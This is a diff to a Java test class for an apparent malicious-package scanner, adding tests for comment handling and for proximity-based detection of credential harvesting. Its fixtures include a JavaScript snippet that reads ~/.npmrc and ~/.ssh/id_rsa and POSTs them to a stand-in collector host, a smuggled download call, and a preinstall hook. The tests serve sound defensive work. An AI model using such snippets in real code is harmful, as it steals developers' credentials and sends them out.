@@ -64,13 +64,11 @@ class ContentRulesTest {
         """);
         assertThat(setup.severity()).isEqualTo(Severity.HIGH);
 
-        Finding npm = only(
-                new StartupHooks(),
-                "package/package.json",
-                "{\"name\":\"x\",\"scripts\":{\"preinstall\":\"node setup_bun.js\"}}");
-        assertThat(npm.severity()).isEqualTo(Severity.MEDIUM);
-        assertThat(npm.excerpt()).contains("node setup_bun.js");
-        assertThat(check(new StartupHooks(), "package/package.json", "{\"scripts\":{\"test\":\"jest\"}}"))
+        // npm's install scripts are the npm format's (NpmFormatTest), not a content rule's.
+        assertThat(check(
+                        new StartupHooks(),
+                        "package/package.json",
+                        "{\"name\":\"x\",\"scripts\":{\"preinstall\":\"node setup_bun.js\"}}"))
                 .isEmpty();
     }
 
@@ -223,5 +221,57 @@ class ContentRulesTest {
                         "pkg/dev.py",
                         "URL = 'http://127.0.0.1:8000/'\nDOC = 'http://192.168.1.1/'\n"))
                 .isEmpty();
+    }
+
+    /** Documentation is not code: a URL in a comment line is no download, but code after a comment still counts. */
+    @Test
+    void commentLinesAreNotCode() {
+        String documented = """
+                const { spawn } = require('child_process');
+                // Bun is https://github.com/oven-sh/bun/releases: see its docs
+                /*
+                 * also see https://bun.sh/install
+                 */
+                module.exports = () => spawn('ls');
+                """;
+        assertThat(check(new DownloadAndExecute(), "package/lib/run.js", documented))
+                .isEmpty();
+        String smuggled = """
+                const { spawn } = require('child_process');
+                /* docs */ fetch('https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip');
+                const url = "http://x//y"; // a URL in a string is not a comment
+                """;
+        assertThat(only(new DownloadAndExecute(), "package/lib/run.js", smuggled)
+                        .severity())
+                .isEqualTo(Severity.HIGH);
+        // An unterminated block comment blanks to the end, in one pass however long the file.
+        String open = "/*\n" + "x\n".repeat(200_000);
+        assertThat(source("package/a.js", open).text().isBlank()).isTrue();
+        // Python and shell: lines starting with '#', but not a first-line shebang.
+        SourceFile script = source("demo/run.py", "#!/usr/bin/env python3\n# urlopen('https://x')\nx = 1\n");
+        assertThat(script.text()).startsWith("#!/usr/bin/env python3\n ").doesNotContain("urlopen");
+    }
+
+    /** Credentials named far apart in a large bundle are not one stealer; close together, next to a send, they are. */
+    @Test
+    void credentialReadsCountWhenTheyAreCloseTogether() {
+        String spread = "const a = ['.npmrc'];\n" + "x();\n".repeat(200) + "const b = '.ssh/id_rsa';\n"
+                + "y();\n".repeat(200) + "fetch('https://api.example/');\n";
+        Finding far = only(new CredentialHarvesting(), "package/dist/bundle.js", spread);
+        assertThat(far.severity()).isEqualTo(Severity.LOW);
+        assertThat(far.explain()).contains("at most 1 within 50 lines");
+        String close = """
+                const os = require('os');
+                const npm = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
+                const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
+                fetch('https://collector.example/', { method: 'POST', body: npm + key });
+                """;
+        assertThat(only(new CredentialHarvesting(), "package/index.js", close).severity())
+                .isEqualTo(Severity.HIGH);
+        // .env files are every web framework's: with npm tokens and a fetch, worth a look, not a quarantine.
+        String guarded = "deny: ['.env', '.npmrc'],\nfetch(url);\n";
+        assertThat(only(new CredentialHarvesting(), "package/dist/server.js", guarded)
+                        .severity())
+                .isEqualTo(Severity.MEDIUM);
     }
 }
